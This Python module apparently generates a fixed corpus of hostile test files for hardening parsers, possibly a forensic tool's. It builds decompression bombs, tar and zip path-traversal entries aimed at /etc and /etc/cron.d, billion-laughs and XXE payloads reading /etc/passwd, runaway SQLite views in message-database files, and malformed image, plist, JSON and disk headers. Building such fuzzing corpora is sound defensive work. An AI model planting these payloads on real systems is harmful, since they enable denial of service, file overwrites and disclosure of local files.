"""Files made to harm who reads them: bombs, slips, loops, lies of size, statements in databases, polyglots.

Each is small, and the same bytes each time. Reference: D. Fifield, "A better zip bomb" (overlapping members);
"Security considerations" of the formats' own documents.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import plistlib
import random
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

UNPACKED = 64 << 20
"""Bytes that each bomb unpacks to."""
OVERLAPPING = 200
"""Members of one archive that are the same packed bytes."""
_ZEROS = bytes(UNPACKED)
Made = Iterator[tuple[str, bytes]]


def made() -> Made:
    """Names and contents of all of them."""
    for family in (
        _streams,
        _tars,
        _zips,
        _markup,
        _databases,
        _pictures,
        _plists,
        _objects,
        _polyglots,
        _disks,
    ):
        yield from family()


def _nested(pack: Callable[[bytes], bytes], depth: int, data: bytes) -> bytes:
    for _ in range(depth):
        data = pack(data)
    return data


def _streams() -> Made:
    packs: dict[str, Callable[[bytes], bytes]] = {
        "gz": lambda data: gzip.compress(data, 9, mtime=0),
        "xz": lzma.compress,
        "bz2": bz2.compress,
    }
    for ending, pack in packs.items():
        bomb = pack(_ZEROS)
        for depth in (1, 2, 3, 8):
            yield f"nested{depth}.{ending}", _nested(pack, depth - 1, bomb)
        one = pack(b"content")
        yield f"members.{ending}", one * 3000
        yield f"cut.{ending}", bomb[:-20]
        yield f"flipped.{ending}", one[:-6] + bytes([one[-6] ^ 255]) + one[-5:]
        yield f"tail.{ending}", one + b"\xff" * 4096
    yield "longname.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3" + b"n" * 1_000_000
    yield "dictionary.xz", b"\xfd7zXZ\0\0\4\xe6\xd6\xb4F\2\0\x21\1\x28\0\0\0" + bytes(64)
    yield "dictionary.lzma", b"\x5d\xff\xff\xff\xff" + b"\xff" * 8 + bytes(64)


def _tar(*members: tuple[str, dict[str, object], bytes], form: int = tarfile.GNU_FORMAT) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=form) as tar:
        for name, fields, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for field, value in fields.items():
                setattr(info, field, value)
            tar.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def _tar_header(size: bytes, kind: bytes = b"0", name: bytes = b"file") -> bytes:
    block = bytearray(512)
    block[: len(name)] = name
    block[100:108], block[124 : 124 + len(size)], block[156:157] = b"0000644\0", size, kind
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def _tars() -> Made:
    for name in (
        "../../../../tmp/slip",
        "/etc/cron.d/slip",
        "a/../../slip",
        "\u202egpj.exe",
        "a" * 3000,
        "a/" * 2000,
    ):
        yield f"slip{ord(name[0])}-{len(name)}.tar", _tar((name, {}, b"slipped"))
    yield "selflink.tar", _tar(("a", {"type": tarfile.LNKTYPE, "linkname": "a"}, b""))
    yield (
        "ring.tar",
        _tar(*((f"{n}", {"type": tarfile.LNKTYPE, "linkname": f"{(n + 1) % 50}"}, b"") for n in range(50))),
    )
    yield (
        "symlinks.tar",
        _tar(
            ("d", {"type": tarfile.SYMTYPE, "linkname": "/etc"}, b""),
            ("d/passwd", {}, b"x"),
            ("e", {"type": tarfile.SYMTYPE, "linkname": "e"}, b""),
        ),
    )
    yield "device.tar", _tar(("mem", {"type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 1}, b""))
    for number, size in enumerate(
        (b"77777777777\0", b"\x80" + b"\xff" * 11, b"\xff" * 12, b"-0000000001\0", b"99999999999\0")
    ):
        yield f"size{number}.tar", _tar_header(size) + bytes(2048)
        yield f"longname{number}.tar", _tar_header(size, b"L") + b"n" * 2048
        yield f"pax{number}.tar", _tar_header(size, b"x") + b"99999999 path=x\n" + bytes(2032)
    yield "paxcount.tar", _tar_header(b"00000000040\0", b"x") + b"0 path=a\n0 path=b\n".ljust(512, b"\0")
    yield "many.tar", _tar(*((f"f{number}", {}, b"") for number in range(5000)))
    yield "twice.tar", _tar(*(("same", {}, b"x" * number) for number in range(500)))
    yield "nested.tar", _nested(lambda data: _tar(("in.tar", {}, data)), 20, b"core")


def _zip(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return stream.getvalue()


def _overlapping(count: int) -> bytes:
    """All members of the directory are the same packed bytes."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(_ZEROS) + packed.flush()
    sizes = (zlib.crc32(_ZEROS), len(data), len(_ZEROS))
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, *sizes, 1, 0) + b"a" + data
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, *sizes, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * count
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(local), 0)
    return local + directory + end


def _zips() -> Made:
    for number, name in enumerate(
        ("../../slip", "/etc/slip", "C:\\slip", "a\0b", "a//b/./..", "x" * 60_000, "con", "\u202ex")
    ):
        yield f"slip{number}.zip", _zip((name, b"slipped"))
    for name, method in (("stored", 0), ("deflate", 8), ("bzip2", 12), ("lzma", 14)):
        yield f"bomb-{name}.zip", _zip(("zeros", _ZEROS if method else _ZEROS[: 1 << 20]), method=method)
    yield "overlapping.zip", _overlapping(OVERLAPPING)
    yield "nested.zip", _nested(lambda data: _zip(("in.zip", data)), 20, b"core")
    yield "many.zip", _zip(*((f"{number}", b"") for number in range(5000)))
    plain = bytearray(_zip(("file", b"content" * 100)))
    end, directory = plain.rfind(b"PK\5\6"), plain.find(b"PK\1\2")
    for number, (place, value) in enumerate((
        (end + 8, b"\xff\xff\xff\xff"), (end + 12, b"\xff" * 8), (end + 16, b"\0\0\0\0"), (directory + 8, b"\1\0"),
        (directory + 10, b"\x63\0"), (directory + 20, b"\xff" * 8), (directory + 42, b"\xff" * 4), (directory + 28, b"\xff\xff"),
        (directory + 16, b"\0\0\0\0"), (26, b"\xff\xff"), (end + 20, b"\xff\xff"),
    )):  # fmt: skip
        lie = bytearray(plain)
        lie[place : place + len(value)] = value
        yield f"lie{number}.zip", bytes(lie)
    yield "comment.zip", bytes(plain[:-2]) + b"\xff\xff" + (b"PK\5\6" * 16384)[:65535]


def _markup() -> Made:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bodies = {
        "laughs": f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]><r>&l11;</r>',
        "quadratic": f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]><r>{"&a;" * 20_000}</r>',
        "outside": '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>',
        "remote": '<!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd"><r/>',
        "deep": "<a>" * 200_000,
        "attributes": "<r " + " ".join(f'a{n}="x"' for n in range(50_000)) + "/>",
    }
    for name, body in bodies.items():
        for ending in ("xml", "svg", "plist"):
            yield f"{name}.{ending}", f'<?xml version="1.0"?>{body}'.encode()


_TABLES = {
    "mmssms.db": ("sms", "_id, thread_id, address, date, type, body"),
    "calllog.db": ("calls", "_id, number, date, duration, type"),
    "sms.db": ("message", "ROWID_, handle_id, is_from_me, text, date"),
    "ChatStorage.sqlite": ("ZWAMESSAGE", "Z_PK, ZTEXT, ZISFROMME, ZMESSAGEDATE"),
}
_ATTACKS = {
    "endless": "CREATE VIEW {t} AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT {n} FROM r",
    "huge": "CREATE VIEW {t} AS SELECT {h}",
    "joined": "CREATE TABLE s(a); INSERT INTO s WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r LIMIT 3000) "
    "SELECT n FROM r; CREATE VIEW {t} AS SELECT {a} FROM s AS x, s AS y, s AS z, s ORDER BY 1",
    "trigger": "CREATE TABLE {t}({c}); CREATE TRIGGER g BEFORE INSERT ON {t} BEGIN DELETE FROM {t}; END; INSERT INTO {t} DEFAULT VALUES",
    "virtual": "CREATE VIRTUAL TABLE {t} USING fts5({c}); INSERT INTO {t} DEFAULT VALUES; DELETE FROM {t}_data",
}


def _databases() -> Made:
    for file, (table, columns) in _TABLES.items():
        names = columns.split(", ")
        words = {
            "t": table,
            "c": columns,
            "n": ", ".join(f"n AS {name}" for name in names),
            "h": ", ".join(f"zeroblob(900000000) AS {name}" for name in names),
            "a": ", ".join(f"x.a AS {name}" for name in names),
        }
        for attack, sql in _ATTACKS.items():
            yield f"{attack}/{file}", _database(sql.format(**words))
        plain = bytearray(_database(f"CREATE TABLE {table}({columns}); INSERT INTO {table} DEFAULT VALUES"))
        for number, (place, value) in enumerate((
            (16, b"\0\1"), (18, b"\2\2"), (28, b"\xff" * 4), (32, b"\0\0\0\2\xff\xff\xff\xff"), (100, b"\5"), (103, b"\xff\xff"),
            (56, b"\0\0\0\3"),
        )):  # fmt: skip
            lie = bytearray(plain)
            lie[place : place + len(value)] = value
            yield f"lie{number}/{file}", bytes(lie)


def _database(sql: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "db")
        with closing(sqlite3.connect(path)) as connection:
            connection.executescript(sql)
        return path.read_bytes()


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    body = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def _tiff(entries: list[tuple[int, int, int, int]], following: int) -> bytes:
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + body + struct.pack("<I", following)


def _pictures() -> Made:
    bomb = zlib.compress(_ZEROS, 9)
    end = (b"IEND", b"")
    for number, (width, height) in enumerate(((1 << 30, 1 << 30), (30_000, 30_000), (0, 0), (0x7FFFFFFF, 1))):
        head = (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
        yield f"giant{number}.png", _png(head, (b"IDAT", bomb), end)
        yield (
            f"giant{number}.gif",
            b"GIF89a"
            + struct.pack("<HH", width & 65535, height & 65535)
            + b"\xf7\0\0"
            + bytes(768)
            + b",\0" * 99,
        )
        yield (
            f"giant{number}.bmp",
            b"BM" + bytes(8) + b"\x36\0\0\0\x28\0\0\0" + struct.pack("<II", width, height) + bytes(28),
        )
        yield (
            f"giant{number}.jpg",
            b"\xff\xd8\xff\xc0\0\x11\x08"
            + struct.pack(">HH", height & 65535, width & 65535)
            + b"\3"
            + bytes(64),
        )
        yield f"giant{number}.webp", b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6
    small = (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    for kind in (b"iCCP", b"zTXt", b"iTXt", b"eXIf"):
        said = b"a\0\0" if kind != b"iTXt" else b"a\0\1\0\0\0"
        yield f"text-{kind.decode()}.png", _png(small, (kind, said + bomb), end)
    yield "loop.tif", _tiff([(256, 4, 1, 1)], 8)
    yield (
        "counts.tif",
        _tiff([(tag, kind, 0xFFFFFFFF, 8) for tag in (256, 270, 273, 34665) for kind in (1, 2, 5)], 0),
    )
    yield "inner.tif", _tiff([(34665, 4, 1, 8), (34853, 4, 1, 8), (330, 4, 1, 8)], 8)
    for name, body in (
        ("loop", _tiff([(34665, 4, 1, 8)], 8)),
        ("counts", _tiff([(37500, 7, 0xFFFFFFF0, 8)], 0)),
    ):
        exif = b"Exif\0\0" + body
        yield f"exif-{name}.jpg", b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + b"\xff\xd9"
    yield "boxes.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\0\0\0\x08meta" * 50_000
    yield "box.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\0\0\0\1meta" + b"\xff" * 8 + bytes(64)


def _plists() -> Made:
    for number, node in enumerate(
        (b"\xa1\0", b"\xd1\0\0", b"\xaf\x13\x7f\xff\xff\xff\xff\xff\xff\xff", b"\xc2\0\0", b"\xa2\0\0")
    ):
        trailer = bytes(6) + b"\1\1" + struct.pack(">QQQ", 1, 0, 8 + len(node))
        yield f"loop{number}.plist", b"bplist00" + node + b"\x08" + trailer
    chain = b"".join(b"\xa2" + bytes([n + 1, n + 1]) for n in range(40)) + b"\x50"
    offsets = bytes(8 + 3 * n for n in range(41))
    yield (
        "laughs.bplist",
        b"bplist00" + chain + offsets + bytes(6) + b"\1\1" + struct.pack(">QQQ", 41, 0, 8 + len(chain)),
    )
    yield "deep.plist", b'<?xml version="1.0"?><plist>' + b"<array>" * 100_000
    yield "plain.plist", plistlib.dumps({"x" * 100_000: ["y"] * 10_000})


def _objects() -> Made:
    graph = [
        {"@id": f"_:{n}", "@type": "observable:Message", "next": {"@id": f"_:{(n + 1) % 9}"}}
        for n in range(9)
    ]
    bodies = {
        "deep": "[" * 1_000_000,
        "deep-objects": '{"a":' * 300_000,
        "digits": '{"a": ' + "9" * 2_000_000 + "}",
        "keys": "{" + ",".join('"a":1' for _ in range(100_000)) + "}",
        "half": '{"a": "\\ud800", "\\udfff": 1}',
        "remote": json.dumps({"@context": "http://127.0.0.1:9/context", "@graph": graph}),
        "ring": json.dumps({"@context": {"observable": "x"}, "@graph": graph * 300}),
        "float": '{"a": 1e999999, "b": NaN, "c": -0.0}',
    }
    for name, body in bodies.items():
        for ending in ("json", "jsonld"):
            yield f"{name}.{ending}", body.encode()


def _polyglots() -> Made:
    archive, picture = _zip(("in", b"content")), _png((b"IHDR", bytes(13)), (b"IEND", b""))
    database = _database("CREATE TABLE sms(_id, body)")
    for name, data in (
        ("pdf", b"%PDF-1.4\n"),
        ("gif", b"GIF89a" + bytes(20)),
        ("elf", b"\x7fELF" + bytes(60)),
        ("png", picture),
        ("db", database),
    ):
        yield f"{name}-zip.{name}", data + archive
        yield f"{name}-tar.{name}", data.ljust(1024, b"\0") + _tar(("in", {}, b"x"))
    boot = bytearray(1 << 20)
    boot[510:512], boot[1024 + 56 : 1024 + 58], boot[3:11], boot[32769:32774] = (
        b"\x55\xaa",
        b"\x53\xef",
        b"NTFS    ",
        b"CD001",
    )
    yield "every-system.dd", bytes(boot)


def _disks() -> Made:
    chance = random.Random(7)
    table = bytearray(1 << 16)
    table[446:462], table[510:512] = b"\0\0\0\0\5\0\0\0" + struct.pack("<II", 1, 100), b"\x55\xaa"
    table[512 + 446 : 512 + 478] = (
        b"\0\0\0\0\x83\0\0\0" + struct.pack("<II", 1, 2) + b"\0\0\0\0\5\0\0\0" + struct.pack("<II", 0, 9)
    )
    table[1022:1024] = b"\x55\xaa"
    yield "extended-ring.dd", bytes(table)
    parts = bytearray(1 << 16)
    parts[510:512], parts[446 + 4] = b"\x55\xaa", 0xEE
    parts[512:604] = (
        b"EFI PART\0\0\1\0\x5c\0\0\0"
        + bytes(8)
        + struct.pack("<QQQQ16sQIII", 1, 1, 1, 99, b"g" * 16, 2, 0xFFFFFFFF, 128, 0)
    )
    yield "gpt-entries.dd", bytes(parts)
    marks = {
        "fat": (0, b"\xeb\x3c\x90MSDOS5.0\0\2\1\1\0\2\xe0\0\x40\x0b\xf8\x09\0"), "ntfs": (0, b"\xeb\x52\x90NTFS    \0\2\x08"),
        "ext": (1024 + 56, b"\x53\xef\1\0"), "iso": (32768, b"\1CD001\1"), "xfs": (0, b"XFSB\0\0\x10\0"), "btrfs": (65600, b"_BHRfS_M"),
        "apfs": (32, b"NXSB\0\x10\0\0"), "luks": (0, b"LUKS\xba\xbe\0\1aes\0"), "luks2": (0, b"LUKS\xba\xbe\0\2"), "qcow": (0, b"QFI\xfb\0\0\0\3"),
        "ewf": (0, b"EVF\x09\x0d\x0a\xff\0\1\1\0\0\0"), "hfs": (1024, b"H+\0\4"), "bitlocker": (0, b"\xeb\x58\x90-FVE-FS-"),
    }  # fmt: skip
    for name, (place, mark) in marks.items():
        for kind, filling in (
            ("zeros", bytes(1 << 18)),
            ("ones", b"\xff" * (1 << 18)),
            ("noise", chance.randbytes(1 << 18)),
        ):
            data = bytearray(filling)
            data[510:512] = b"\x55\xaa"
            data[place : place + len(mark)] = mark
            yield f"{name}-{kind}.dd", bytes(data)
